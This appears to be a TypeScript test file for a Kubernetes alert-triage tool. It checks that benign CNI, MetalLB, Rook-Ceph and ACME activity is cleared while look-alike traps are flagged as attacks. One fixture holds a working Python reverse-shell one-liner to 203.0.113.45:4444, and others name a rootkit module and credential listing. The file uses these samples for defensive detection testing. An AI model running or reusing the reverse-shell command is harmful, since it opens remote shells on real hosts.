/**
 * Context found in the kubeadm-antrea-rook validation scenario, as rule tables: a CNI init container loading its
 * kernel module under a node EDR that shows the process tree — with the traps each must not fall into.
 */
import { describe, expect, it } from 'vitest';
import type { ProcessInfo } from '../../../src/alerts/model.js';
import type { ExecSession, KubeObject, Pod } from '../../../src/cluster/model.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, node, owner, pod, snapshot } from '../../support/cluster.js';
import { elastic } from '../../../src/alerts/vendors/elastic.js';
import { mapAll } from '../../alerts/vendors/helpers.js';

const W1 = 'k8s-wrk-01';
const W2 = 'k8s-wrk-02';
const T = (hms: string) => `2027-08-19T${hms}.000Z`;
const SHIM = { name: 'containerd-shim-runc-v2', path: '/usr/bin/containerd-shim-runc-v2', commandLine: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${'a'.repeat(64)} -address /run/containerd/containerd.sock` };
const INSTALL_CNI = { name: 'bash', path: '/usr/bin/bash', commandLine: '/bin/bash /usr/local/bin/install_cni' };

const antreaDs = owner('DaemonSet', 'antrea-agent', 'kube-system');
function antrea(name: string, nodeName: string, created: string, namespace = 'kube-system', ownerName = 'antrea-agent'): Pod {
  const p = pod(name, {
    namespace,
    node: nodeName,
    hostNetwork: true,
    created,
    owner: { kind: 'DaemonSet', name: ownerName },
    containers: [
      { name: 'antrea-agent', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['antrea-agent'], args: ['--config=/etc/antrea/antrea-agent.conf'], securityContext: { privileged: true } },
      { name: 'antrea-ovs', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['start_ovs'] },
    ],
  });
  p.spec.initContainers = [{ name: 'install-cni', image: 'antrea/antrea-agent-ubuntu:v2.2.0', command: ['install_cni'], securityContext: { capabilities: { add: ['SYS_MODULE'] } } }];
  p.status!.initContainerStatuses = [{ name: 'install-cni', restartCount: 0, state: { terminated: { exitCode: 0, reason: 'Completed', startedAt: created, finishedAt: created } } }];
  return p;
}
const agent1 = antrea('antrea-agent-kx2lp', W1, T('09:15:49'));
// An antrea image in an application namespace, owned by something else, is not Antrea.
const fakeDs = owner('DaemonSet', 'net-helper', 'tools');
const fake = antrea('net-helper-q8w2d', W2, T('09:15:49'), 'tools', 'net-helper');

const index = buildIndex([snapshot([node(W1, '10.20.0.21'), node(W2, '10.20.0.22'), antreaDs, agent1, fakeDs, fake])]);
const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
const modprobe = (host: string, time: string, module: string, parent: ProcessInfo = INSTALL_CNI) =>
  alert({ host, time: T(time), process: { name: 'modprobe', path: '/usr/bin/kmod', commandLine: `modprobe ${module}` }, ancestors: [parent, SHIM] });

describe('a kernel module loaded by a CNI init container, seen by a node EDR with the process tree', () => {
  it("Antrea's install_cni loading openvswitch seconds after the init container started", () => {
    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch'));
    expect(v.label).toBe('likely-false-positive');
    expect(v.reasons.map((r) => r.message).join(' ')).toMatch(/install-cni container/);
  });
  it('trap: a module Antrea does not load, under the same parent', () => {
    expect(verdict(modprobe(W1, '09:15:58', 'diamorphine'))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: the right module under a parent that is not the init container command (an interactive shell)', () => {
    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch', { name: 'sh', path: '/usr/bin/dash', commandLine: 'sh' }));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: a script merely named like the entrypoint in a later argument does not count', () => {
    const v = verdict(modprobe(W1, '09:15:58', 'openvswitch', { name: 'bash', commandLine: '/bin/bash -c cd /tmp && ./x install_cni' }));
    expect(v.label).toBe('genuine');
  });
  it('trap: the init container ran hours before the module load', () => {
    expect(verdict(modprobe(W1, '12:15:58', 'openvswitch')).label).toBe('genuine');
  });
  it('trap: an antrea image in an application namespace under another owner', () => {
    expect(verdict(modprobe(W2, '09:15:58', 'openvswitch'))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});

describe('flat ECS columns of a Kibana CSV report reach the rules', () => {
  const row = (cmd: string, parent: string) => ({
    '@timestamp': '2027-08-19T09:52:17.088Z',
    'kibana.alert.rule.name': 'Suspicious Child Process',
    'kibana.alert.uuid': `u-${cmd.length}`,
    'host.name': W1,
    'process.name': 'python3',
    'process.command_line': cmd,
    'process.parent.name': 'gunicorn',
    'process.parent.command_line': parent,
    'container.id': '',
  });
  it('trap: a reverse shell in the flat command-line column is an attack', () => {
    const [a] = mapAll(elastic, [row('python3 -c import socket,os;s=socket.socket();s.connect(("203.0.113.45",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")', 'gunicorn --bind 0.0.0.0:8080 app:app')]);
    expect(verdict(a)).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('the process and its parent are read from the flat columns', () => {
    const [a] = mapAll(elastic, [row('python3 -m http.server', 'gunicorn --bind 0.0.0.0:8080 app:app')]);
    expect(a.process.commandLine).toBe('python3 -m http.server');
    expect(a.process.ancestors[0]).toMatchObject({ name: 'gunicorn', commandLine: 'gunicorn --bind 0.0.0.0:8080 app:app' });
  });
});

describe("Open vSwitch configured by Antrea's antrea-ovs container (start_ovs → ovs-ctl)", () => {
  const ovsCtl = { name: 'ovs-ctl', commandLine: '/bin/sh /usr/share/openvswitch/scripts/ovs-ctl --no-ovs-vswitchd --system-id=random start --db-file=/var/run/openvswitch/conf.db' };
  const vsctl = (host: string, cmd: string, parent: ProcessInfo) => alert({ host, time: T('09:19:03'), process: { name: 'ovs-vsctl', path: '/usr/bin/ovs-vsctl', commandLine: cmd }, ancestors: [parent] });
  it('ovs-vsctl under ovs-ctl on a node where an Antrea agent pod runs', () => {
    expect(verdict(vsctl(W1, 'ovs-vsctl --no-wait set Open_vSwitch . other_config:vlan-limit=0', ovsCtl))).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: the same on a node where only a look-alike pod runs', () => {
    expect(verdict(vsctl(W2, 'ovs-vsctl --no-wait set Open_vSwitch . other_config:vlan-limit=0', ovsCtl)).label).toBe('genuine');
  });
  it('trap: ovs-vsctl typed into an interactive shell on an Antrea node', () => {
    expect(verdict(vsctl(W1, 'ovs-vsctl del-br br-int', { name: 'bash', commandLine: '-bash' })).label).toBe('genuine');
  });
});

describe("a node sensor's process tied to a person's shell session only by the shell's name", () => {
  const W3 = 'k8s-wrk-03';
  const tools = pod('rook-ceph-tools-7c9d-abcde', { namespace: 'rook-ceph', node: W3, ip: '10.244.5.9', owner: { kind: 'ReplicaSet', name: 'rook-ceph-tools-7c9d' }, containers: [{ name: 'rook-ceph-tools', image: 'quay.io/ceph/ceph:v18.2.4', command: ['/bin/bash', '-c', 'sleep infinity'] }] });
  const csi = pod('csi-rbdplugin-q2w4e', {
    namespace: 'rook-ceph',
    node: W3,
    hostNetwork: true,
    hostPID: true,
    owner: { kind: 'DaemonSet', name: 'csi-rbdplugin' },
    containers: [{ name: 'csi-rbdplugin', image: 'quay.io/cephcsi/cephcsi:v3.12.3', args: ['--type=rbd', '--nodeserver=true'], securityContext: { privileged: true } }],
  });
  const base = { groups: ['oidc:storage-ops', 'system:authenticated'], sourceIps: ['10.30.4.34'], tty: true, code: 101, start: T('10:40:10'), end: T('11:05:30') };
  const tom: ExecSession = { kind: 'exec', user: 'tom.becker@example.net', namespace: 'rook-ceph', pod: tools.metadata.name, container: 'rook-ceph-tools', command: ['bash'], ...base };
  const intruder: ExecSession = {
    kind: 'exec',
    user: 'system:serviceaccount:fleet:route-planner',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:fleet', 'system:authenticated'],
    sourceIps: ['10.244.4.37'],
    namespace: 'rook-ceph',
    pod: csi.metadata.name,
    container: 'csi-rbdplugin',
    command: ['sh'],
    tty: true,
    code: 101,
    start: T('10:51:20'),
    end: T('10:58:40'),
  };
  const triage = (sessions: ExecSession[], time: string, container = {}) => {
    const idx = buildIndex([snapshot([node(W3, '10.20.0.23'), tools, csi], sessions)]);
    const a = alert({ host: W3, time: T(time), process: { name: 'ceph', path: '/usr/bin/ceph', commandLine: 'ceph auth ls' }, ancestors: [{ name: 'bash', commandLine: 'bash' }], container });
    return triageAlert(a, { index: idx }).verdict;
  };
  it("a process under bash while only the person's bash session is open: troubleshooting", () => {
    expect(triage([tom, intruder], '10:44:09')).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
  });
  it("trap: the same while a service account's interactive shell is open in another pod on that node", () => {
    const v = triage([tom, intruder], '10:53:02');
    expect(v.label).toBe('genuine');
    expect(v.reasons.map((r) => r.message).join(' ')).toMatch(/cannot be told whose it was/);
  });
  it("a container sensor that names the person's pod is not affected by the other session", () => {
    expect(triage([tom, intruder], '10:53:02', { pod: tools.metadata.name, namespace: 'rook-ceph', name: 'rook-ceph-tools' })).toMatchObject({ label: 'likely-false-positive', cause: 'admin-activity' });
  });
});

describe('an ARP alert about an address a LoadBalancer Service holds, announced by a layer-2 load balancer', () => {
  const W4 = 'k8s-wrk-04';
  const speaker = (name: string, nodeName: string, namespace = 'metallb-system', ownerName = 'speaker') =>
    pod(name, { namespace, node: nodeName, hostNetwork: true, owner: { kind: 'DaemonSet', name: ownerName }, containers: [{ name: 'speaker', image: 'quay.io/metallb/speaker:v0.14.8', args: ['--port=7472'] }] });
  const lbService = (ip: string): KubeObject =>
    ({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'ingress-nginx-controller', namespace: 'ingress-nginx', uid: 'svc-1' }, spec: { type: 'LoadBalancer', clusterIP: '10.101.23.7' }, status: { loadBalancer: { ingress: [{ ip }] } } }) as KubeObject;
  const announced = (nodeName: string): KubeObject =>
    ({
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'ingress-nginx-controller.1', namespace: 'ingress-nginx', uid: 'ev-1' },
      involvedObject: { kind: 'Service', name: 'ingress-nginx-controller', namespace: 'ingress-nginx' },
      reason: 'nodeAssigned',
      message: `announcing from node "${nodeName}" with protocol "layer2"`,
      source: { component: 'metallb-speaker' },
    }) as KubeObject;
  const arp = (title: string) => alert({ host: undefined, time: T('09:26:40'), title, network: { srcIp: '10.20.0.24', dstIp: '10.20.0.1', protocol: 'arp' } });
  const triageWith = (objects: KubeObject[], title: string) => triageAlert(arp(title), { index: buildIndex([snapshot([node(W4, '10.20.0.24'), ...objects])]) }).verdict;
  const metallb = [owner('DaemonSet', 'speaker', 'metallb-system'), speaker('speaker-x2k4p', W4)];

  it('gratuitous ARP for the ingress VIP from a node where the MetalLB speaker runs', () => {
    const v = triageWith([...metallb, lbService('10.20.10.100'), announced(W4)], 'Gratuitous ARP reply for 10.20.10.100');
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
    expect(v.reasons[0].message).toMatch(/Service ingress-nginx\/ingress-nginx-controller/);
  });
  it('trap: ARP about an address no LoadBalancer Service holds (the gateway)', () => {
    expect(triageWith([...metallb, lbService('10.20.10.100')], 'Possible ARP spoofing of 10.20.0.1').label).toBe('genuine');
  });
  it('trap: an ARP scan that happens to include the VIP', () => {
    expect(triageWith([...metallb, lbService('10.20.10.100'), announced(W4)], 'ARP scan of 10.20.10.0/24 (10.20.10.100 and 49 more)').label).toBe('genuine');
  });
  it('trap: a LoadBalancer address in a cluster with no layer-2 load balancer', () => {
    expect(triageWith([lbService('10.20.10.100')], 'Gratuitous ARP reply for 10.20.10.100').label).toBe('genuine');
  });
  it('trap: a speaker look-alike outside metallb-system, under another owner', () => {
    expect(triageWith([owner('DaemonSet', 'net-probe', 'tools'), speaker('net-probe-q2w4e', W4, 'tools', 'net-probe'), lbService('10.20.10.100')], 'Gratuitous ARP reply for 10.20.10.100').label).toBe('genuine');
  });
  it('trap: the speaker event names a node where no speaker runs', () => {
    expect(triageWith([...metallb, lbService('10.20.10.100'), announced('k8s-wrk-09')], 'Gratuitous ARP reply for 10.20.10.100').label).toBe('genuine');
  });
});

describe('Ceph traffic between nodes (Rook with the host network: mons 3300/6789, daemons 6800–7300)', () => {
  const [A, B] = ['k8s-wrk-01', 'k8s-wrk-02'];
  const csiPod = (name: string, nodeName: string, namespace = 'rook-ceph', ownerName = 'csi-rbdplugin') =>
    pod(name, { namespace, node: nodeName, hostNetwork: true, hostPID: true, owner: { kind: 'DaemonSet', name: ownerName }, containers: [{ name: 'csi-rbdplugin', image: 'quay.io/cephcsi/cephcsi:v3.12.3', args: ['--type=rbd'], securityContext: { privileged: true } }] });
  const flow = (port: number) => alert({ time: T('10:30:25'), title: 'ET INFO Unusual cleartext protocol between internal hosts', network: { srcIp: '10.20.0.21', srcPort: 40224, dstIp: '10.20.0.22', dstPort: port, protocol: 'tcp' } });
  const triageWith = (objects: KubeObject[], port: number) => triageAlert(flow(port), { index: buildIndex([snapshot([node(A, '10.20.0.21'), node(B, '10.20.0.22'), ...objects])]) }).verdict;
  const rook = [owner('DaemonSet', 'csi-rbdplugin', 'rook-ceph'), csiPod('csi-rbdplugin-a1b2c', A)];
  it('a node running a Rook-Ceph pod reaching another node on an OSD port', () => {
    expect(triageWith(rook, 6802)).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
    expect(triageWith(rook, 3300)).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking' });
  });
  it('trap: a port just outside the Ceph range', () => {
    expect(triageWith(rook, 7301).label).toBe('genuine');
  });
  it('trap: no Rook-Ceph pod on the source node', () => {
    expect(triageWith([owner('DaemonSet', 'csi-rbdplugin', 'rook-ceph'), csiPod('csi-rbdplugin-z9y8x', B)], 6802).label).toBe('genuine');
  });
  it('trap: a cephcsi image in an application namespace under another owner', () => {
    expect(triageWith([owner('DaemonSet', 'storage-probe', 'tools'), csiPod('storage-probe-q2w4e', A, 'tools', 'storage-probe')], 6802).label).toBe('genuine');
  });
});

describe('an inbound ACME HTTP-01 validation request served by a solver pod', () => {
  const W4 = 'k8s-wrk-04';
  const TOKEN = 'Qm9nZ3VzVG9rZW4tN2Y0YTJjMWUtdHJhY2s';
  const solver = pod('cm-acme-http-solver-kvf2c', {
    namespace: 'fleet',
    node: W4,
    ip: '10.244.6.71',
    created: T('12:58:21'),
    containers: [{ name: 'acmesolver', image: 'quay.io/jetstack/cert-manager-acmesolver:v1.16.2', args: ['--listen-port=8089', '--domain=track.example.net', `--token=${TOKEN}`, `--key=${TOKEN}.thumb`] }],
  });
  solver.metadata.ownerReferences = [{ apiVersion: 'acme.cert-manager.io/v1', kind: 'Challenge', name: 'track-example-net-tls-1-1', controller: true } as never];
  const request = (time: string, token: string, title = 'ET POLICY HTTP Request on Unusual Port Possibly Hostile') =>
    alert({ time: T(time), title, network: { srcIp: '198.51.100.200', srcPort: 51234, dstIp: '10.20.0.24', dstPort: 30412, protocol: 'tcp', url: `/.well-known/acme-challenge/${token}` } });
  const index4 = buildIndex([snapshot([node(W4, '10.20.0.24'), solver])]);
  const judge = (a: ReturnType<typeof alert>) => triageAlert(a, { index: index4 }).verdict;
  it("the CA fetching the token the solver pod serves", () => {
    expect(judge(request('12:58:50', TOKEN))).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a token no pod serves', () => {
    expect(judge(request('12:58:50', 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')).label).toBe('genuine');
  });
  it('trap: the request came before the solver pod existed', () => {
    expect(judge(request('12:50:00', TOKEN)).label).toBe('genuine');
  });
  it('trap: an attack signature on the same request stays an attack', () => {
    expect(judge(request('12:58:50', TOKEN, 'ET ATTACK_RESPONSE Possible reverse shell banner'))).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
});
